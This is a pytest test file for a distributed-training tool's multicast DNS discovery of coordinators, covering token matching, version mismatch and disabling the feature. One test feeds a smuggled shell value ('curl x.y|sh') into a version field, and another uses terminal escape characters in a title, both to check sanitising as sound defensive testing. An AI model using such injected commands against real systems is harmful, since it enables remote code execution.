"""Coordinators are announced and found, by multicast DNS on the loopback interface and by nothing else."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import socket
import threading
import time
from collections.abc import Callable, Iterator

import pytest

from manyhands.facts.errors import BadValue, Refused, TimedOut
from manyhands.facts.version import __version__
from manyhands.runtime import discovery, seeking
from manyhands.runtime.control import PROTOCOL
from manyhands.runtime.coordinator import Coordinator
from manyhands.runtime.discovery import Announcement, Lookout, announced, can_announce, hosts_of, interface_asked
from manyhands.runtime.joining import Joining
from manyhands.runtime.seeking import nearest_first, seek
from manyhands.runtime.service import serve
from manyhands.transport.transport import TcpTransport


def is_multicast_here() -> bool:
    """Whether a datagram to a group comes back on the loopback interface: everything here stands on it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind(("127.0.0.1", 0))
        one.settimeout(2.0)
        try:
            own = socket.inet_aton("127.0.0.1")
            one.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, own)
            one.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + own)
        except OSError:
            return False
    return True


on_loopback = pytest.mark.skipif(not is_multicast_here(), reason="the loopback interface has no multicast here")


@pytest.fixture
def loopback(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MANYHANDS_DISCOVERY", "127.0.0.1")


def until(is_so: Callable[[], bool], limit_seconds: float = 20.0) -> None:
    end = time.monotonic() + limit_seconds
    while not is_so():
        assert time.monotonic() < end
        time.sleep(0.02)


def made(word: str) -> str:
    """A token that looks as manyhands makes them: of others there is no mark."""
    text = base64.b32encode(hashlib.sha256(word.encode()).digest()[:20]).decode().lower()
    return "-".join(text[place : place + 4] for place in range(0, 32, 4))


def wanted(token: str, limit_seconds: float = 20.0) -> Joining:
    return Joining("", 0, token, limit_seconds=limit_seconds)


@pytest.fixture(scope="module")
def two() -> Iterator[tuple[Coordinator, Coordinator]]:
    """Coordinators of two households."""
    patch = pytest.MonkeyPatch()
    patch.setenv("MANYHANDS_DISCOVERY", "127.0.0.1")
    with (
        Coordinator(token=made("our household"), title="resnet50") as ours,
        Coordinator(token=made("their household"), title="bad \x1b[31m \u202etitle") as theirs,
    ):
        for one in (ours, theirs):
            assert one._announcer is not None
            assert one._announcer.is_announced.wait(20)
        yield ours, theirs
    patch.undo()


@on_loopback
@pytest.mark.xdist_group("discovery")
@pytest.mark.usefixtures("loopback")
class TestOnLoopback:
    @pytest.mark.slow
    def test_a_worker_finds_the_one_its_token_fits(self, two: tuple[Coordinator, Coordinator]) -> None:
        for own in two:
            found = seek(wanted(own.token), TcpTransport())
            found.reached.channel.close()
            assert (found.joining.host, found.joining.port) == own.address
            assert found.announcement.is_same_version

    def test_one_that_fits_none_is_told_what_there_is(self, two: tuple[Coordinator, Coordinator]) -> None:
        search = seeking._Search(wanted("nobody's"), TcpTransport(), ())
        with Lookout() as lookout:
            until(lambda: {own.address[1] for own in two} <= {one.port for one in lookout.seen()})
            assert search.look(lookout) is None
        failure = search.failure()
        assert isinstance(failure, Refused)
        assert "This worker's token fits none of the" in failure.message
        for own in two:
            assert f"127.0.0.1:{own.address[1]} (manyhands {__version__})" in failure.message
        assert f"resnet50 on {socket.gethostname()}" in failure.message
        assert "bad ?[31m ?title" in failure.message, "it goes to a terminal"
        assert "--token-file FILE" in failure.hint

    def test_one_that_finds_only_others_gives_up_early(self, two: tuple[Coordinator, Coordinator]) -> None:
        start = time.monotonic()
        with pytest.raises(Refused, match=r"token fits none of the \d"):
            seek(wanted("nobody's", 120.0), TcpTransport(), grace_seconds=0.1)
        assert time.monotonic() - start < 60

    @pytest.mark.slow
    def test_one_that_was_refused_is_passed_by(self, two: tuple[Coordinator, Coordinator]) -> None:
        first = seek(wanted(made("our household")), TcpTransport())
        first.reached.channel.close()
        with pytest.raises((TimedOut, Refused), match=r"No coordinator was found|fits none of"):
            seek(wanted(made("our household")), TcpTransport(), avoid=[first.announcement.instance], grace_seconds=0.5)

    def test_a_token_is_not_given_away(self, two: tuple[Coordinator, Coordinator]) -> None:
        ports = {own.address[1] for own in two}
        with Lookout() as lookout:
            until(lambda: ports <= {one.port for one in lookout.seen()})
            seen = [one for one in lookout.seen() if one.port in ports]
        assert len({one.mark for one in seen}) == 2
        for one in seen:
            assert len(one.mark) == 6, "a guess can be ruled out, and never confirmed"
            assert not any(own.token in repr(one) for own in two)

    @pytest.mark.slow
    def test_one_of_another_version_is_named(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(discovery, "__version__", "9.0")
        with Coordinator(token=made("a later household")) as coordinator:
            assert coordinator._announcer is not None
            assert coordinator._announcer.is_announced.wait(20)
            monkeypatch.undo()
            monkeypatch.setenv("MANYHANDS_DISCOVERY", "127.0.0.1")
            with pytest.raises(Refused, match=rf"\(manyhands 9\.0\) fits the token; this is manyhands {__version__}"):
                seek(wanted(made("a later household")), TcpTransport(), grace_seconds=0.5)

    def test_whoever_ends_is_no_longer_announced_and_leaves_no_thread(self) -> None:
        before = set(threading.enumerate())
        with Lookout() as lookout:
            with contextlib.suppress(ZeroDivisionError), Coordinator(token=made("a short household")):
                until(lambda: any(one.fits(made("a short household")) for one in lookout.seen()))
                raise ZeroDivisionError  # a run that fails
            until(lambda: not any(one.fits(made("a short household")) for one in lookout.seen()))
        until(lambda: set(threading.enumerate()) <= before)


@on_loopback
@pytest.mark.slow
@pytest.mark.usefixtures("loopback")
def test_a_worker_that_one_coordinator_refuses_goes_to_the_next() -> None:
    """Two runs of one household: the first has no room. When the second ends too it is told so by the first."""
    said: list[str] = []
    errors: list[Refused] = []

    def run(name: str) -> None:
        try:
            serve(Joining("", 0, made("one household"), name), said.append, transport=TcpTransport())
        except Refused as error:
            errors.append(error)

    def start(name: str) -> threading.Thread:
        thread = threading.Thread(target=run, args=(name,), daemon=True)
        thread.start()
        return thread

    with Coordinator(token=made("one household"), max_devices=1) as full:
        first = start("first")
        full.wait_for(["first"], 30)
        with Coordinator(token=made("one household")) as other:
            second = start("second")
            other.wait_for(["second"], 30)
        second.join(30)
        third = start("third")
        third.join(60)
        assert not second.is_alive()
        assert not third.is_alive()
        assert [error.message for error in errors] == [
            "third comes too late: 1 workers have joined, and no more than 1 may."
        ]
    first.join(30)
    assert not first.is_alive()


def test_nobody_is_found_within_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where there is no network at all, too: an address that this machine does not have cannot be looked on."""
    monkeypatch.setenv("MANYHANDS_DISCOVERY", "192.0.2.77")
    start = time.monotonic()
    with pytest.raises(TimedOut, match=r"No coordinator was found within 0\.5 s") as found:
        seek(wanted(made("our household"), 0.5), TcpTransport())
    assert time.monotonic() - start < 10
    assert "--join HOST:PORT" in found.value.hint
    assert "multicast" in found.value.hint


def test_it_can_be_turned_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MANYHANDS_DISCOVERY", "off")
    with Coordinator("0.0.0.0", 0, made("the token")) as coordinator:
        assert not coordinator.is_announced
    with pytest.raises(BadValue, match="is off") as found:
        seek(wanted(made("the token")), TcpTransport())
    assert "--join HOST:PORT" in found.value.hint
    monkeypatch.setenv("MANYHANDS_DISCOVERY", "")
    with Coordinator("0.0.0.0", 0, made("the token"), announce=False) as coordinator:
        assert not coordinator.is_announced
    with Coordinator() as coordinator:
        assert not coordinator.is_announced, "only this machine could use it"
    monkeypatch.setenv("MANYHANDS_DISCOVERY", "eth0")
    with pytest.raises(BadValue, match="must be off, or the address"):
        Coordinator()


@pytest.mark.parametrize(
    ("host", "interface", "expected"),
    [
        ("127.0.0.1", "", ()),
        ("localhost", "", ()),
        ("127.0.0.1", "192.168.1.5", ()),
        ("127.0.0.1", "127.0.0.1", ("127.0.0.1",)),
        ("localhost", "127.0.0.1", ("127.0.0.1",)),
        ("192.168.1.5", "", ("192.168.1.5",)),
        ("0.0.0.0", "192.168.1.5", ("192.168.1.5",)),
        ("0.0.0.0", "", ("10.0.0.2", "192.168.1.5")),
        ("::", "", ("10.0.0.2", "192.168.1.5", "fd00::5")),
        ("my-laptop", "", ()),
    ],
)
def test_what_is_announced(
    host: str, interface: str, expected: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    own = {"192.168.1.5": "wlan0", "10.0.0.2": "eth0", "fd00::5": "eth0"}
    monkeypatch.setattr(discovery, "addresses", lambda: own)
    assert hosts_of(host, interface) == expected
    assert not can_announce(host, None)


def test_interfaces(monkeypatch: pytest.MonkeyPatch) -> None:
    for said, expected in (("", ""), ("OFF", None), (" 10.0.0.1 ", "10.0.0.1")):
        monkeypatch.setenv("MANYHANDS_DISCOVERY", said)
        assert interface_asked() == expected


def test_the_nearest_address_is_tried_first() -> None:
    hosts = ("172.17.0.1", "10.0.0.2", "fd00::5", "192.168.1.5")
    assert nearest_first(hosts, ("192.168.1.77", "127.0.0.1"))[0] == "192.168.1.5"
    assert nearest_first(hosts, ("10.0.0.9",))[0] == "10.0.0.2"
    assert nearest_first(hosts, ("fd00::1",))[0] == "fd00::5"
    assert sorted(nearest_first(hosts, ())) == sorted(hosts)


def test_garbage_is_no_announcement() -> None:
    from zeroconf import ServiceInfo

    name = f"x.{discovery.SERVICE}"
    wild: dict[str | bytes, str | bytes | None] = {
        b"\xff": b"\xfe", "version": b"\x00" * 200, "protocol": "12345678901234567890", "mark": None,
    }  # fmt: skip
    found = announced(ServiceInfo(discovery.SERVICE, name, port=1, properties=wild, parsed_addresses=["10.0.0.1"]))
    assert found is not None
    assert (found.protocol, found.mark, found.version) == (-1, "", "?" * 20)
    assert not found.fits(made("the token"))
    assert not found.is_same_version
    assert announced(ServiceInfo(discovery.SERVICE, name, port=1)) is None, "nowhere"
    typed = {"version": "1;curl x.y|sh"}  # it stands in a command that people are told to type
    found = announced(ServiceInfo(discovery.SERVICE, name, port=1, properties=typed, parsed_addresses=["10.0.0.1"]))
    assert found is not None
    assert found.version == "1?curl?x.y?sh"


def test_what_fits_and_cannot_be_reached_is_said_at_the_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """One that was killed is still announced for a while."""
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))
        port = nobody.getsockname()[1]
        gone = Announcement(
            "x",
            ("127.0.0.1",),
            port,
            __version__,
            PROTOCOL,
            "tiny",
            "laptop",
            "salt",
            discovery.mark_of(made("our household"), "salt"),
        )
        assert gone.fits(made("our household"))
        assert not gone.fits(made("their household"))
        search = seeking._Search(wanted(made("our household"), 1.0), TcpTransport(), ())

        class Seen:
            def seen(self) -> list[Announcement]:
                return [gone]

        assert search.look(Seen()) is None  # type: ignore[arg-type]
        failure = search.failure()
    assert isinstance(failure, TimedOut)
    assert f"tiny on laptop at 127.0.0.1:{port}" in failure.message
    assert "--join HOST" in failure.hint
